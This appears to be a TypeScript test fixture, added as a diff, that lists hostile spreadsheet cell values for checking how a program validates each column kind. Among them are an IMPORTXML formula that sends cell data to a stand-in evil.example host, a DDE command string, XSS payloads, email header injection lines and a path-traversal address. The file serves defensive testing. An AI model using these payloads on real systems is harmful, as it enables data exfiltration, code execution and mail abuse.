@@ -1,0 +1,162 @@
+// The catalogue of hostile cells, as `values.batchGet` with UNFORMATTED_VALUE returns them, and an independent judgement of what
+// each kind of column may accept: written from the table «Values» of the specification, not from the code that reads cells.
+import type { Cell } from '../../src/rules/kinds.js';
+
+export interface Hostile {
+  readonly name: string;
+  readonly cell: Cell;
+}
+
+/** Google's limit of characters in a cell. */
+const FULL = 50_000;
+const full = (unit: string): string => unit.repeat(Math.ceil(FULL / unit.length)).slice(0, FULL);
+
+const texts: Readonly<Record<string, string>> = {
+  // Formulas and what other programs take for one.
+  formula: '=1+1',
+  'formula that fetches': '=IMPORTXML("https://evil.example/?"&A1,"//x")',
+  'formula link': '=HYPERLINK("https://evil.example","нажмите")',
+  plus: '+79990001122',
+  minus: '-2+3',
+  at: '@SUM(1;2)',
+  DDE: "=cmd|'/c calc'!A0",
+  'tab before a formula': '\t=1+1',
+  'line feed before a formula': '\n=1+1',
+  'full-width equals': '＝1+1',
+  apostrophe: "'=1+1",
+  // Markup.
+  script: '<script>alert(1)</script>',
+  attribute: '"><img src=x onerror=alert(1)>',
+  'end of style': '</style></title></textarea><svg onload=alert(1)>',
+  entity: '&lt;b&gt;&#x3c;script&#x3e;',
+  comment: '<!-- --><!DOCTYPE html>]]>',
+  'javascript link': 'javascript:alert(1)',
+  template: '${7*7} {{имя}} {{{{х}}}} %s %1$s \\u0041',
+  CSS: 'red;background:url(//evil.example)}*{display:none',
+  // Mail.
+  header: 'Тема\r\nBcc: victim@example.com\r\n\r\nтело',
+  'address and header': 'a@example.com\r\nCc: victim@example.com',
+  'address and line end': 'a@example.com\n',
+  'several addresses': 'a@example.com, b@example.com',
+  'several addresses by ;': 'a@example.com;b@example.com',
+  'display name': 'Директор <a@example.com>',
+  'quoted name': '"b@example.com" <a@example.com>',
+  'encoded word': '=?utf-8?B?YUBleGFtcGxlLmNvbQ==?=',
+  'address with a comment': 'a@example.com(b@example.com)',
+  'address of no domain': 'a@localhost',
+  'address with bidi': 'a@example.com\u202emoc.live',
+  'address with a zero-width space': 'a\u200b@example.com',
+  'address with full-width at': 'a＠example.com',
+  dots: 'a..b@example.com',
+  'cyrillic look-alike': 'аnna@example.com',
+  'a path for an address': '../../etc/passwd@example.com',
+  // Characters.
+  NUL: 'до\u0000после',
+  controls: '\u0001\u0002\u0007\u0008\u000b\u000c\u001b[31m\u007f\u0085',
+  bidi: '\u202eстрока\u202c\u2066x\u2069\u200f',
+  'zero-width only': '\u200b\u2060\ufeff',
+  'no-break spaces only': '\u00a0\u202f\u2007',
+  'braille blank': '\u2800',
+  emoji: '👩‍👩‍👧‍👦🏳️‍🌈🇰🇿',
+  'lone high surrogate': 'а\ud83d',
+  'lone low surrogate': '\udc00б',
+  'surrogates backwards': '\udc00\ud83d',
+  'non-characters': '\ufffe\uffff',
+  'escape of xlsx': '_x0041_ _x005F_x0000_',
+  'combining marks': `я${'\u0301'.repeat(300)}`,
+  decomposed: 'И\u0306ё',
+  'line separators': 'а\u2028б\u2029в\rг\r\nд',
+  'other case folding': 'İıſßŉ',
+  // Numbers and dates as text.
+  NaN: 'NaN',
+  Infinity: 'Infinity',
+  'minus Infinity': '-Infinity',
+  '1e308': '1e308',
+  hexadecimal: '0x1F',
+  bigint: '10n',
+  underscored: '1_000',
+  'thousands wrongly': '1 00 000',
+  'two commas': '1,000,000',
+  'two signs': '--5',
+  percent: '50%',
+  'arabic digits': '١٢٣',
+  'a number of 400 digits': '9'.repeat(400),
+  'a small number as text': '10 000,50 руб.',
+  'a number with no-break space': '80\u00a0000\u202f₸',
+  'the 31st of February': '31.02.2023',
+  'the year 0': '01.01.0000',
+  'before 1900': '31.12.1899',
+  'the last day': '31.12.9999',
+  'after 9999': '01.01.10000',
+  ISO: '2023-09-21',
+  'ISO with zone': '2023-09-21T11:00:00Z',
+  'date and time as text': '21.09.2023 11:00',
+  'American date': '09/21/2023',
+  'hour 24': '21.09.2023 24:00',
+  time: '23:59',
+  'time 99': '99:99',
+  'day of the year': '15.01',
+  // Errors of formulas, and words.
+  '#REF!': '#REF!',
+  '#N/A': '#N/A',
+  '#VALUE!': '#VALUE!',
+  '#DIV/0!': '#DIV/0!',
+  '#NAME?': '#NAME?',
+  '#NUM!': '#NUM!',
+  '#NULL!': '#NULL!',
+  '#ERROR!': '#ERROR!',
+  '#SPILL!': '#SPILL!',
+  '#N/A with its cause': "#N/A (Did not find value 'x' in VLOOKUP evaluation.)",
+  'hash tag': '#REF! — не ошибка, а заметка',
+  'true as text': 'TRUE',
+  da: ' ДА ',
+  null: 'null',
+  undefined: 'undefined',
+  __proto__: '__proto__',
+  constructor: 'constructor',
+  toString: 'toString',
+  hasOwnProperty: 'hasOwnProperty',
+  object: '[object Object]',
+  JSON: '{"$gt":""}',
+  'slash and pipe': 'a/b|c?d=e&f%0000',
+  star: '***',
+  // Length.
+  'full of letters': full('ж'),
+  'full of blanks and a letter': `${full(' ').slice(1)}x`,
+  'full of digits': full('7'),
+  'full of groups': full('1 000 '),
+  'full of dots': full('a.'),
+  'full of dots and an x': `${full('.').slice(1)}x`,
+  'full of T': `${full('T').slice(2)} x`,
+  'full of at signs': full('a@'),
+  'full of commas': full('a,'),
+  'full of emoji': full('😀'),
+  'full of braces': full('{{'),
+};
+
+const others: Readonly<Record<string, Cell>> = {
+  true: true,
+  false: false,
+  zero: 0,
+  one: 1,
+  'minus one': -1,
+  'a half': 0.5,
+  'a cent too fine': 10.005,
+  huge: 1e308,
+  'huge negative': -1e308,
+  tiny: 5e-324,
+  'beyond safe': 9_007_199_254_740_993,
+  'beyond the last date': 2_958_466,
+  'the last second': 2_958_465.999_999,
+  'serial 1': 1,
+  'a moment': 45_190.458_333_333_3,
+  'a moment with dust': 45_190.999_999_999_9,
+};
+
+export const HOSTILE: readonly Hostile[] = [
+  ...Object.entries(texts).map(([name, cell]) => ({ name, cell })),
+  ...Object.entries(others).map(([name, cell]) => ({ name: `(${name})`, cell })),
+];
+
+/** Long ones go in runs of their own: there are megabytes of them. */
+export const isLong = ({ cell }: Hostile): boolean => typeof cell === 'string' && cell.length > 1_000;
